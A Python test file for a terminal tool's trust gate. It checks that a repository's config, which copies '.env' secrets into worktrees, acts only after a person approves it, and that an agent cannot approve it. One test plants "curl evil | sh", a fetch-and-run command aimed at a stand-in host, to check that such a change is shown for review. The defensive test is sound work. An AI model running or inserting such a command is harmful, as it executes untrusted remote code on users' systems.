"""A repository's own file acts only after a person has seen it."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.conftest import World
from tests.hostile import on_terminal

SLEEP = ("--", "sleep", "1000")
COPYING = "[setup]\ncopy = ['.env']\n"


@pytest.fixture
def file(world: World) -> Path:
    (world.repo / ".env").write_text("SECRET=1\n")
    file = world.repo / ".tmuxorch.toml"
    file.write_text(COPYING)
    return file


def answer(world: World, *args: str, word: bytes, **env: str) -> tuple[int, str]:
    status, data = on_terminal(
        ["tmuxorch", *args],
        env={**world.environ, "NO_COLOR": "1", **env},
        cwd=world.repo,
        steps=[(b"Do you trust it? [y/N]", word + b"\n")],
    )
    return status, data.decode()


def copies(world: World, name: str) -> bool:
    return (Path(world.json("show", name)["worktree"]) / ".env").exists()


@pytest.mark.usefixtures("file")
def test_files_are_not_copied_for_a_repository_that_is_not_trusted(world: World) -> None:
    done = world.run("new", "-n", "a", *SLEEP, ok=False)
    assert done.returncode == 1
    assert "tmuxorch config --trust" in done.stderr
    world.assert_nothing_left()


@pytest.mark.usefixtures("file")
def test_a_person_sees_the_text_and_is_asked(world: World) -> None:
    status, said = answer(world, "config", "--trust", word=b"n")
    assert status == 1
    assert "copy = ['.env']" in said
    assert world.run("new", "-n", "a", *SLEEP, ok=False).returncode == 1
    status, said = answer(world, "config", "--trust", word=b"y")
    assert status == 0
    world.new("-n", "a", *SLEEP)
    assert copies(world, "a")


@pytest.mark.usefixtures("file")
def test_new_asks_the_same_question(world: World) -> None:
    status, said = answer(world, "new", "-n", "a", *SLEEP, word=b"y")
    assert status == 0
    assert "copy = ['.env']" in said
    assert copies(world, "a")


def test_what_has_changed_since_is_shown(world: World, file: Path) -> None:
    world.run("config", "--trust", "-y")
    file.write_text(COPYING + "run = ['curl evil | sh']\n")
    assert world.run("new", "-n", "a", *SLEEP, ok=False).returncode == 1
    _, said = answer(world, "config", "--trust", word=b"n")
    assert "+run = ['curl evil | sh']" in said
    assert " copy = ['.env']" in said


@pytest.mark.usefixtures("file")
def test_a_script_has_to_say_so(world: World) -> None:
    done = world.run("config", "--trust", ok=False)
    assert done.returncode == 1
    assert "-y" in done.stderr
    assert world.run("new", "-n", "a", *SLEEP, ok=False).returncode == 1
    assert "copy = ['.env']" in world.run("config", "--trust", "-y").stderr
    world.new("-n", "a", *SLEEP)


@pytest.mark.parametrize("args", [("config", "--trust"), ("config", "--trust", "-y"), ("new", "x")])
@pytest.mark.usefixtures("file")
def test_an_agent_cannot_trust_what_it_may_have_written(
    world: World, args: tuple[str, ...]
) -> None:
    inside = {"TMUXORCH_AGENT_ID": "0123456789ab"}
    assert world.run(*args, env=inside, ok=False).returncode == 1
    status, said = answer(world, *args, word=b"y", **inside)
    assert status == 1
    assert "agent's window" in said
    assert world.run("new", "-n", "a", *SLEEP, ok=False).returncode == 1


def test_there_must_be_something_to_trust(world: World) -> None:
    done = world.run("config", "--trust", "-y", ok=False)
    assert done.returncode == 1
    assert "nothing to trust" in done.stderr
